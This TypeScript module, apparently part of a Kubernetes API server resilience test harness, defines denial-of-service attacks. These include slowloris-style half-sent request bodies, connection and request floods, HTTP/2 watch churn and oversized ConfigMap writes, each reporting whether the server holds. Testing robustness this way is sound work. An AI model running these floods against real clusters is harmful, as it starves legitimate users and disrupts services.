import * as Clock from "effect/Clock"
import * as Effect from "effect/Effect"
import type { Attack } from "../Attack.ts"
import type { Request, Who } from "../Request.ts"
import type { Target } from "../Target.ts"
import { authorization, openHttp2, openTls, requestHead } from "../wire/sockets.ts"

const CONFIG_MAPS = "/api/v1/namespaces/default/configmaps"
const LEASE = "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-0"

/** Keeps connections open for some time, each with a request whose body never arrives. */
const halfSent = (
  name: string,
  about: string,
  who: Who,
  head: (target: Target) => string,
  drip: string | undefined = undefined
): Attack => ({
  name: `starving/${name}`,
  about,
  run: (target, scale) =>
    Effect.gen(function* () {
      const count = Math.ceil(600 * scale)
      const opened = yield* Effect.forEach(Array.from({ length: count }), () => openTls(target, "http/1.1"), {
        concurrency: 32
      })
      for (const open of opened) open?.socket.write(head(target))
      const until = (yield* Clock.currentTimeMillis) + 45_000 * Math.max(scale, 0.1)
      while ((yield* Clock.currentTimeMillis) < until) {
        if (drip !== undefined) for (const open of opened) if (open?.isClosed() === false) open.socket.write(drip)
        yield* Effect.sleep(1000)
      }
      const closed = opened.filter((open) => open === undefined || open.isClosed()).length
      const codes = new Set(opened.map((open) => /^HTTP\/1.1 (\d+)/.exec(open?.received() ?? "")?.[1] ?? "none"))
      return {
        finding: `${count} connections of ${who}: ${closed} closed, answered ${[...codes].join(", ")}`,
        holds: true
      }
    })
})

const putHead =
  (who: Who, path: string, method = "PUT") =>
  (target: Target) =>
    `${requestHead(target, who, method, path, { "Content-Type": "application/json", "Content-Length": 2_000_000 })}\r\n{"kind":`

/** Runs loops that each send the next request as soon as the last is answered. */
const flood = (
  name: string,
  about: string,
  who: Who,
  workers: number,
  requestOf: (count: number) => Request
): Attack => ({
  name: `starving/${name}`,
  about,
  run: (target, scale) =>
    Effect.gen(function* () {
      const until = (yield* Clock.currentTimeMillis) + 20_000 * Math.max(scale, 0.1)
      const codes = new Map<number, number>()
      let sent = 0
      const loop = Effect.gen(function* () {
        while ((yield* Clock.currentTimeMillis) < until) {
          const { code } = yield* target.ask(who, requestOf(sent++))
          codes.set(code, (codes.get(code) ?? 0) + 1)
        }
      })
      yield* Effect.all(
        Array.from({ length: Math.ceil(workers * Math.max(scale, 0.1)) }, () => loop),
        { concurrency: "unbounded", discard: true }
      )
      yield* target.ask("admin", { method: "DELETE", path: CONFIG_MAPS })
      const summary = [...codes].map(([code, count]) => `${count} × ${code}`).join(", ")
      return { finding: summary, holds: [...codes.keys()].every((code) => code < 500) }
    })
})

/** Opens connections as fast as possible, each for one request. */
const connections: Attack = {
  name: "starving/flood-connections",
  about: "a connection of its own for each request, TLS and all, 32 at a time",
  run: (target, scale) =>
    Effect.gen(function* () {
      const until = (yield* Clock.currentTimeMillis) + 20_000 * Math.max(scale, 0.1)
      let count = 0
      const loop = Effect.gen(function* () {
        while ((yield* Clock.currentTimeMillis) < until) {
          const open = yield* openTls(target, "http/1.1")
          open?.socket.end(`${requestHead(target, "stranger", "GET", "/api/v1/nodes")}\r\n`)
          count++
        }
      }).pipe(Effect.scoped)
      yield* Effect.all(
        Array.from({ length: 32 }, () => loop),
        { concurrency: "unbounded", discard: true }
      )
      return { finding: `${count} connections`, holds: count > 0 }
    })
}

/** Starts watches and cancels each at once. */
const churn: Attack = {
  name: "starving/watch-churn",
  about: "watches opened and taken back, 64 at a time over one connection",
  run: (target, scale) =>
    Effect.gen(function* () {
      const until = (yield* Clock.currentTimeMillis) + 20_000 * Math.max(scale, 0.1)
      const session = yield* openHttp2(target)
      session?.on("error", () => {})
      let count = 0
      while (session?.closed === false && (yield* Clock.currentTimeMillis) < until) {
        for (let index = 0; index < 64; index++, count++) {
          const path = `${CONFIG_MAPS}?watch=true&resourceVersion=0`
          const stream = session.request({ ":path": path, ...authorization(target, "tenant") })
          stream.on("error", () => {})
          stream.on("response", () => stream.close())
        }
        yield* Effect.sleep(20)
      }
      return { finding: `${count} watches`, holds: count > 0 }
    }).pipe(Effect.scoped)
}

const map = (name: string, size: number) => ({
  apiVersion: "v1",
  kind: "ConfigMap",
  metadata: { name },
  data: { x: "y".repeat(size) }
})

const withLargeMaps = (attack: Attack): Attack => ({
  ...attack,
  run: (target, scale) =>
    Effect.forEach(
      Array.from({ length: Math.ceil(100 * scale) }, (_, index) => index),
      (index) => target.ask("tenant", { method: "POST", path: CONFIG_MAPS, body: map(`large-${index}`, 200_000) }),
      { concurrency: 4, discard: true }
    ).pipe(Effect.andThen(attack.run(target, scale)))
})

/** Attacks by one client that would starve the others. */
export const starving: ReadonlyArray<Attack> = [
  connections,
  churn,
  halfSent("half-bodies-node", "bodies of a node that stop after eight bytes", "node-0", putHead("node-0", LEASE)),
  halfSent("half-bodies-tenant", "the same of a tenant", "tenant", putHead("tenant", CONFIG_MAPS, "POST")),
  halfSent(
    "half-bodies-stranger",
    "the same of a user without rights",
    "stranger",
    putHead("stranger", CONFIG_MAPS, "POST")
  ),
  halfSent(
    "half-bodies-anonymous",
    "the same of someone who says not who",
    "anonymous",
    putHead("anonymous", CONFIG_MAPS, "POST")
  ),
  halfSent("slow-bodies", "bodies of a byte a second", "tenant", putHead("tenant", CONFIG_MAPS, "POST"), " "),
  flood("flood-reads", "reads of one object over 64 connections", "tenant", 64, () => ({
    method: "GET",
    path: `${CONFIG_MAPS}/kube-root-ca.crt`
  })),
  flood("flood-writes", "creates over 64 connections", "tenant", 64, (count) => ({
    method: "POST",
    path: CONFIG_MAPS,
    body: map(`m-${count}`, 100)
  })),
  flood("flood-forbidden", "what a user without rights may not, over 64 connections", "stranger", 64, () => ({
    method: "GET",
    path: "/api/v1/secrets"
  })),
  flood("flood-node", "a node that renews its Lease without rest", "node-0", 64, () => ({
    method: "GET",
    path: LEASE
  })),
  flood("flood-large-writes", "writes of a megabyte over 16 connections", "tenant", 16, (count) => ({
    method: "POST",
    path: `${CONFIG_MAPS}?dryRun=All`,
    body: map(`m-${count}`, 1 << 20)
  })),
  withLargeMaps(
    flood("flood-lists", "lists of 20 MB over 16 connections", "tenant", 16, () => ({
      method: "GET",
      path: CONFIG_MAPS
    }))
  ),
  withLargeMaps(
    flood("flood-tables", "the same as tables", "tenant", 16, () => ({
      method: "GET",
      path: CONFIG_MAPS,
      headers: { accept: "application/json;as=Table;v=v1;g=meta.k8s.io" }
    }))
  )
]
